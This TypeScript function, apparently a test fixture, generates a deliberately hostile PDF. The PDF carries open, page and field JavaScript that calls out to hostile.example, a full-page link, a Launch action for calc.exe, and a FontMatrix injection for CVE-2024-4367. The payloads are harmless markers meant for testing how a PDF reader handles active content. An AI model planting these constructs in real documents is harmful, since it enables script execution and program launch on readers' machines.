/**
 * A PDF of two pages that tries what PDFs can try: scripts when it is opened, when a page is and when a field is, a link, a program to start,
 * and a function for shadings that readers were once tricked into running. It names fonts and character maps that it does not bring along.
 */
export function hostilePdf(words: string): Buffer {
  const script =
    '<< /S /JavaScript /JS (app.launchURL("https://hostile.example/"); document.title = "taken"; fetch("https://hostile.example/")) >>';
  const text = (one: string) => `BT /F1 24 Tf 72 700 Td (${one}) Tj /F2 24 Tf 0 -60 Td <D2FECBBDD5FEB2DF> Tj ET`;
  const page = (contents: number) =>
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents ${contents} 0 R /AA << /O 9 0 R >> /Annots [10 0 R 11 0 R]
       /Resources << /Font << /F1 7 0 R /F2 8 0 R >> >> >>`;
  const stream = (content: string) => `<< /Length ${content.length} >>\nstream\n${content}\nendstream`;
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 9 0 R /Names << /JavaScript << /Names [(a) 9 0 R] >> >> /AcroForm << /Fields [11 0 R] >> >>',
    '<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 2 >>',
    page(5),
    page(6),
    stream(text(words)),
    stream(text('The second page')),
    // CVE-2024-4367: a matrix that is text became a part of a script.
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /FontMatrix [1 0 0 1 0 (0\\); document.title = "taken" //)] >>',
    `<< /Type /Font /Subtype /Type0 /BaseFont /STSong-Light /Encoding /GBK-EUC-H /DescendantFonts [
       << /Type /Font /Subtype /CIDFontType0 /BaseFont /STSong-Light /CIDSystemInfo << /Registry (Adobe) /Ordering (GB1) /Supplement 2 >>
          /FontDescriptor << /Type /FontDescriptor /FontName /STSong-Light /Flags 4 /FontBBox [0 0 1000 1000] /ItalicAngle 0 /Ascent 880 /Descent -120 /CapHeight 880 /StemV 80 >> >>] >>`,
    script,
    '<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (https://hostile.example/) >> >>',
    '<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /Rect [0 0 595 842] /A << /S /Launch /F (calc.exe) >> /AA << /E 9 0 R >> >>',
  ];
  let body = '%PDF-1.7\n';
  const places = objects.map((object, index) => {
    const place = body.length;
    body += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return place;
  });
  const table = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('');
  return Buffer.from(
    `${body}xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${body.length}\n%%EOF\n`,
    'latin1',
  );
}
